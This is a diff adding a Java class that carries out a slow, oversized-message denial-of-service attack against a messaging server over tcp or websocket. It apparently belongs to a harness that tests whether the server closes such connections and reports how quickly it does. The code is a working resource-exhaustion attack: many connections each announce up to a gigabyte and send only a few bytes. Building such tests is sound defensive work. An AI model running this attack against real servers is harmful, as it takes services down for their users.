@@ -1,0 +1,99 @@
+package io.sp4j.attack;
+
+import java.io.IOException;
+import java.time.Duration;
+import java.util.LinkedHashMap;
+import java.util.Map;
+import java.util.concurrent.ThreadLocalRandom;
+
+/**
+ * Many connections that each finish the handshake, announce one message of {@code announced}
+ * bytes (tcp: the 8-byte length; ws: a masked binary frame header, 14 bytes), send
+ * {@code bodyBytes} of it and then nothing more. A server that takes an announced length as a
+ * promise of memory holds {@code connections × announced} bytes for a few bytes each.
+ *
+ * <p>Variants by parameter: the receive limit exactly (1 MiB, the default), a little of the
+ * body or none, and with the server's limit off a huge announcement (1 GiB over tcp,
+ * 2<sup>31</sup>−1 over ws).
+ */
+public final class SlowMaxSizeAttack implements Attack {
+  /** The default receive limit, {@code RECEIVE_MAX_SIZE}. */
+  public static final long ONE_MIB = 1 << 20;
+
+  private final AttackAddress target;
+  private final int connections;
+  private final long announced;
+  private final int bodyBytes;
+  private final HeldConnections held = new HeldConnections();
+  private int refused;
+  private int bytesPerConnection;
+
+  /**
+   * @param connections how many connections announce a message
+   * @param announced the length announced by each
+   * @param bodyBytes how much of the body each then sends (less than {@code announced})
+   */
+  public SlowMaxSizeAttack(AttackAddress target, int connections, long announced, int bodyBytes) {
+    this.target = target;
+    this.connections = connections;
+    this.announced = announced;
+    this.bodyBytes = bodyBytes;
+  }
+
+  @Override
+  public String name() {
+    return "slow-max-size";
+  }
+
+  @Override
+  public void launch() {
+    for (int i = 0; i < connections; i++) {
+      RawConnection c = null;
+      try {
+        c = RawConnection.connect(target, 0, Duration.ofSeconds(5));
+        c.handshake(target);
+        int mask = ThreadLocalRandom.current().nextInt();
+        byte[] head = target.scheme().announce(announced, mask);
+        // A REQ's body starts with its request id; the rest is zeros.
+        byte[] body = new byte[bodyBytes];
+        System.arraycopy(SpWire.requestHeader(i), 0, body, 0, Math.min(4, bodyBytes));
+        byte[] sent = SpWire.concat(head, target.scheme().payloadBytes(body, 0, mask));
+        c.write(sent);
+        bytesPerConnection = sent.length;
+        held.add(c.nonBlocking());
+      } catch (IOException e) {
+        refused++;
+        if (c != null) {
+          c.close();
+        }
+      }
+    }
+  }
+
+  @Override
+  public boolean awaitEnd(Duration max) {
+    return Waits.until(held::allClosedByServer, max);
+  }
+
+  @Override
+  public Map<String, Object> results() {
+    Map<String, Object> r = new LinkedHashMap<>();
+    r.put("connections", held.size());
+    r.put("refused", refused);
+    r.put("announcedBytes", announced);
+    r.put("bytesSentPerConnection", bytesPerConnection);
+    r.put("closedByServer", held.closedByServer());
+    r.put("secondsUntilAllClosed", held.secondsUntilAllClosed());
+    return r;
+  }
+
+  /** How many connections the server still keeps open. */
+  public int open() {
+    return held.size() - held.closedByServer();
+  }
+
+  @Override
+  public void close() {
+    held.close();
+  }
+}
